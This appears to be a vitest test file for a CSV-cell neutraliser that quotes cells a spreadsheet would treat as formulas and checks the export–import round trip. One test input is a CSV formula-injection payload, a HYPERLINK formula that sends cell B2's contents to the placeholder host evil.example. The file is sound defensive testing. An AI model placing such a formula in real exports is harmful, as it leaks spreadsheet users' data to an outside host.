import { describe, expect, it } from "vitest";
import { neutraliseCell, restoreCell } from "./csv-cell";

describe("CSV cells a spreadsheet would run (=, +, -, @, TAB, CR) are written as text", () => {
  it.each([
    ["=SUM(1)", "'=SUM(1)"],
    ['=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"', '\'=HYPERLINK("http://evil.example/?"&B2,"Refund")&"@x.com"'],
    ["-10% Sale", "'-10% Sale"],
    ["+49 Öl", "'+49 Öl"],
    ["@home", "'@home"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["\uFF1D1+1", "'\uFF1D1+1"],
    // a cell already beginning with ' before a trigger gets one more, so reading can take exactly one away
    ["'=already quoted", "''=already quoted"],
    ["''@two", "'''@two"],
  ])("%j is written %j", (value, written) => {
    expect(neutraliseCell(value)).toBe(written);
  });

  it.each(["Krema za obraz", "12.90", "", "O'Brien", "'quoted", "a=b", "ana.novak@example.com", "2026-12-24"])("%j is written as it is", (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it("reading gives back every value as it was written (export then import is a no-op)", () => {
    for (const value of ["=SUM(1)", "-10% Sale", "@home", "'=already quoted", "''@two", "'quoted", "O'Brien", "plain", "\t=1", "'"]) {
      expect(restoreCell(neutraliseCell(value)), value).toBe(value);
    }
  });

  it("reading leaves a cell alone that was not neutralised: =x written by another program stays =x", () => {
    expect(restoreCell("=SUM(1)")).toBe("=SUM(1)");
    expect(restoreCell("'quoted")).toBe("'quoted");
  });
});
